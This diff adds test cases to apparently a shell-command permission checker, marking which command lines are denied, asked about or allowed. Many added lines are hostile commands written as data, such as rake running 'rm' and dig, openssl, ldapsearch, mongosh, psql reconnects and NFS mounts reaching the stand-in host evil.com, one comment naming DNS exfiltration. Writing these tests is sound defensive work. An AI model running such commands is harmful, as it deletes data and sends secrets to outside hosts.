@@ -26,6 +26,8 @@ describe('commands a tool runs from its own words are seen', () => {
     ['fish -c "rm y"', 'deny'], ['tcsh -c "rm y"', 'deny'], ['fish -c "echo hi"', 'ask'], ['nu', 'ask'],
     ['posh -c "rm y"', 'deny'], ['oksh -c "rm y"', 'deny'],
     // make: --eval's recipes, a variable a recipe may run, the shell it runs them with.
+    // rake -e runs ruby code, read as ruby -e's (was allowed).
+    ['rake -e "system(\'rm y\')"', 'deny'], ['rake --execute=\'system("rm y")\'', 'deny'], ['rake -e "$CODE"', 'ask'],
     ['make --eval="all:;rm x"', 'deny'], ["make CC='rm -rf y'", 'deny'], ['make SHELL=/tmp/x', 'ask'], ['make X=\'$(shell id)\'', 'ask'],
     ['make -f /etc/x.mk', 'deny'],
     // cmake -E: coreutils of its own.
@@ -145,6 +147,28 @@ describe('hosts a tool reaches are seen', () => {
     ['psql postgres://evil.com/db', 'deny'], ['psql -h evil.com db', 'deny'], ['psql "host=evil.com dbname=x"', 'deny'], ['mysql -h evil.com', 'deny'],
     ['mysql -hevil.com', 'deny'], ['redis-cli -h evil.com', 'deny'], ['dig @evil.com x', 'deny'], ['nslookup x evil.com', 'deny'],
     ['ping -c 3 evil.com', 'deny'], ['ssh-keyscan a.example,evil.com', 'deny'], ['ssh -W evil.com:22 h', 'deny'],
+    // A name lookup reaches the name's nameserver (DNS exfiltration), as ping does; openssl's other
+    // clients, gnutls-cli, time, probe, directory, SNMP and database clients, network mounts (were allowed).
+    ['dig evil.com', 'deny'], ['dig +short MX evil.com', 'deny'], ['kdig evil.com', 'deny'], ['drill evil.com', 'deny'], ['nslookup evil.com', 'deny'],
+    ['nslookup -type=mx evil.com', 'deny'], ['host evil.com', 'deny'], ['getent hosts evil.com', 'deny'], ['getent ahosts evil.com', 'deny'],
+    ['resolvectl query evil.com', 'deny'], ['systemd-resolve evil.com', 'deny'], ['dscacheutil -q host -a name evil.com', 'deny'],
+    ['openssl ocsp -url http://evil.com/ -issuer c.pem -cert c.pem', 'deny'], ['openssl ocsp -host evil.com:80 -issuer c.pem', 'deny'],
+    ['openssl cmp -cmd genm -server evil.com -secret pass:x -ref r', 'deny'], ['openssl cmp -server evil.com:80/pkix/ -cmd genm', 'deny'],
+    ['openssl verify -crl_download c.pem', 'ask'], ['gnutls-cli evil.com', 'deny'], ['gnutls-cli -p 443 --x509cafile ca.pem evil.com', 'deny'],
+    ['ntpdate evil.com', 'deny'], ['sntp evil.com', 'deny'], ['arping -c 1 evil.com', 'deny'], ['fping a.example evil.com', 'deny'],
+    ['hping3 -S -p 80 evil.com', 'deny'], ['nping --tcp -p 80 evil.com', 'deny'], ['traceroute6 evil.com', 'deny'], ['iperf3 -c evil.com', 'deny'],
+    ['ldapsearch -H ldap://evil.com -x -b dc=x', 'deny'], ['ldapsearch -h evil.com -x', 'deny'], ['snmpwalk -v2c -c public evil.com', 'deny'],
+    ['snmpget -v2c -c public udp:evil.com:161 sysName.0', 'deny'], ['mongosh --host evil.com', 'deny'], ['mongosh evil.com/db', 'deny'],
+    ['mongosh mongodb://evil.com/db', 'deny'], ['sqlcmd -S tcp:evil.com,1433 -Q "select 1"', 'deny'], ['etcdctl --endpoints=evil.com:2379 get x', 'deny'],
+    ['cvs -d :pserver:u@evil.com:/cvs co x', 'deny'], ['rcp f evil.com:x', 'deny'], ['mount -t nfs evil.com:/x /mnt', 'deny'],
+    ['mount -t cifs //evil.com/s /mnt', 'deny'], ['mount_smbfs //u@evil.com/s /tmp/m', 'deny'], ['mount_nfs evil.com:/x /tmp/m', 'deny'],
+    ['showmount -e evil.com', 'deny'], ['dig "$NAME"', 'ask'],
+    // psql's \c and mysql's connect reach another server; more libpq and redis/mysql clients (were allowed).
+    [`psql -c '\\c db u evil.com'`, 'deny'], [`psql -c '\\connect postgres://evil.com/db'`, 'deny'], [`psql -c '\\c "host=evil.com"'`, 'deny'],
+    [`psql <<< '\\c db u evil.com'`, 'deny'], [`psql -c '\\c db u :h'`, 'ask'], [`psql -c '\\c otherdb'`, 'allow'], [`psql -c '\\c - - localhost'`, 'allow'],
+    [`mysql -e 'connect db evil.com'`, 'deny'], [`mysql -e '\\r db evil.com'`, 'deny'], ['pgbench -h evil.com -i', 'deny'], [`pgbench 'host=evil.com'`, 'deny'],
+    ['pgbench -c 10 -T 60 mydb', 'allow'], ['pg_receivewal -h evil.com -D x', 'deny'], [`pg_recvlogical -d 'host=evil.com' --start`, 'deny'],
+    ['valkey-cli -h evil.com', 'deny'], ['mysqlsh --uri u@evil.com', 'deny'], ['mysqlsh u@evil.com:3306', 'deny'],
   ])('%s: %s', (line, expected) => {
     expect(decision(line)).toBe(expected);
   });
@@ -171,7 +195,8 @@ describe('lines with no such effect stay allowed', () => {
     ['sudo -- ls', 'bash'],
     ['echo https://evil.com', 'bash'], ['printf "%s\\n" https://evil.com', 'bash'], ['Write-Host https://evil.com', 'powershell'],
     ['make -j4 CFLAGS=-O2 all', 'bash'], ['make', 'bash'], ['cmake --build build', 'bash'], ['cmake -E echo hi', 'bash'], ['go test ./...', 'bash'], ['npm test', 'bash'],
-    ['dig evil.com', 'bash'], ['docker run -it -v data:/x alpine', 'bash'], ['docker build -t tag .', 'bash'], ['docker run --rm -v "$PWD":/app node:20 npm ci', 'bash'],
+    ['rake test', 'bash'], ['capsh --print', 'bash'], ['dig github.com', 'bash'], ['dig -x 10.0.0.1', 'bash'], ['getent passwd root', 'bash'], ['mount', 'bash'], ['mount /dev/sdb1 /mnt', 'bash'],
+    ['openssl x509 -in c.pem -noout -text', 'bash'], ['openssl req -new -key k.pem -subj /CN=evil.com -out r.csr', 'bash'], ['docker run -it -v data:/x alpine', 'bash'], ['docker build -t tag .', 'bash'], ['docker run --rm -v "$PWD":/app node:20 npm ci', 'bash'],
     ['touch -d 2020-01-01 f', 'bash'], ['truncate -s 0 f', 'bash'], ['psql -c "select 1" -d mydb', 'bash'], ['diff a b', 'bash'], ['gzip -k notes.txt', 'bash'],
     ["concurrently -n a,b 'npm test' 'ls'", 'bash'], ['less +G x', 'bash'], ['man ls', 'bash'], ['setarch --list', 'bash'],
     ['Get-Content C:\\w\\repo\\a.txt', 'powershell'], ['echo $env:PATH ${env:HOME} $script:x', 'powershell'],
